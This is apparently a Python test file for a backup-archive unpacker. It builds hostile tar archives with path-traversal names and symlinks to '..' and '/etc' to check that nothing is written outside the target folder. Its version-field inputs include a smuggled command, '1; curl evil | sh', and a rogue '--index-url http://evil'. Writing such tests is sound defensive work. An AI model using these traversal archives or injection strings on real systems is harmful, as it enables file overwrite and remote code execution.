"""Backups that somebody made to do harm: nothing is written out of the folder, whatever names and links they hold."""

from __future__ import annotations

import hashlib
import io
import os
import tarfile
import tempfile
from collections.abc import Mapping
from contextlib import suppress
from pathlib import Path

import orjson
import pytest
import zstandard
from hypothesis import example, given, settings
from hypothesis import strategies as st

from contracts.errors import ArtifactError
from nextclick.stack.backup.archive import read_manifest, unpack_archive, verify_archive

CONTENT = b"x"
FACTS = {"bytes": 1, "sha256": hashlib.sha256(CONTENT).hexdigest()}
REDIS = {"version": "6.2.14", "database": 0, "prefix": "nc", "keys": 1, "expiring": 0, "how": "snapshot"}
SNAPSHOT = "redis.rdb"
ESCAPE = {"models/a/b": "..", "models/c": "a/b/../../..", "models/a/x": None, "models/c/evil": None}
"""Read letter by letter `models/c` stays inside: `a/b` counts as one step down. It is a link, and leads up."""


def crafted(path: Path, entries: Mapping[str, str | None], **said: object) -> Path:
    """Write a backup of files of one byte (None), and of links, in this order."""
    files = {name: FACTS for name, leads in entries.items() if leads is None}
    links = {name: leads for name, leads in entries.items() if leads is not None}
    log = {"kind": "redis", "partitions": 8, "topic_prefix": "nc"}
    about = {"format": "nextclick-backup", "layout": 1, "made_ms": 1, "version": "0.1.0", "models": None}
    manifest = orjson.dumps({**about, "redis": REDIS, "log": log, "files": files, "links": links, **said})
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, leads in {"manifest.json": None, **entries}.items():
            entry, content = tarfile.TarInfo(name), manifest if name == "manifest.json" else CONTENT
            if leads is None:
                entry.size = len(content)
                tar.addfile(entry, io.BytesIO(content))
            else:
                entry.type, entry.linkname = tarfile.SYMTYPE, leads
                tar.addfile(entry)
    path.write_bytes(zstandard.ZstdCompressor().compress(packed.getvalue()))
    return path


PARTS = st.sampled_from(["models", "trends", "a", "b", "c", "..", "."])
PLACES = st.lists(PARTS, min_size=1, max_size=5).map("/".join)


@settings(max_examples=60, deadline=None)
@given(st.dictionaries(st.one_of(PLACES.map("models/{}".format), PLACES), st.one_of(st.none(), PLACES), max_size=6))
@example(ESCAPE)
def test_whatever_it_holds_nothing_leaves_the_folder(entries: dict[str, str | None]) -> None:
    with tempfile.TemporaryDirectory() as place:
        top = Path(place).resolve()
        file, folder = crafted(top / "b", {SNAPSHOT: None, **entries}), top / "1" / "2" / "3" / "4" / "5" / "in"
        folder.mkdir(parents=True)
        with suppress(ArtifactError, OSError):
            unpack_archive(file, folder)
        assert [one for one in top.rglob("*") if one.is_file() and folder not in one.parents] == [file]
        for link in (one for one in folder.rglob("*") if one.is_symlink()):
            assert Path(os.path.realpath(link)).is_relative_to(folder)


LINKS: list[dict[str, str | None]] = [
    ESCAPE,
    {"models/serving": "/etc"},
    {"models/serving": "a/.."},
    {"logs": "models"},
    {"redis": "models"},
]
FILES = ("../evil", "/tmp/evil", "redis/redis.conf", "lock", "evil")


@pytest.mark.parametrize("entries", LINKS + [{name: None} for name in FILES])
def test_what_no_backup_has_is_refused_before_anything_is_unpacked(
    tmp_path: Path, entries: dict[str, str | None]
) -> None:
    with pytest.raises(ArtifactError, match="nothing was changed"):
        verify_archive(crafted(tmp_path / "b", {SNAPSHOT: None, **entries}))


def test_a_backup_without_the_snapshot_of_redis_is_none(tmp_path: Path) -> None:
    with pytest.raises(ArtifactError, match=r"expected redis\.rdb in it, found none"):
        read_manifest(crafted(tmp_path / "b", {"models/a": None}))


@pytest.mark.parametrize("version", ["1; curl evil | sh", "\x1b[2J", "", "1 --index-url http://evil", None, "9" * 99])
def test_a_release_that_is_none_is_not_told_to_be_installed(tmp_path: Path, version: object) -> None:
    with pytest.raises(ArtifactError, match="damaged") as told:
        read_manifest(crafted(tmp_path / "b", {SNAPSHOT: None}, layout=2, version=version))
    assert "pip install" not in str(told.value)
    assert "\x1b" not in str(told.value)


def test_links_that_lead_down_are_put_back(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    file = crafted(tmp_path / "b", {SNAPSHOT: None, "models/versions/a/x": None, "models/serving": "versions/a"})
    unpack_archive(file, tmp_path / "in")
    assert (tmp_path / "in" / "models" / "serving" / "x").read_bytes() == CONTENT
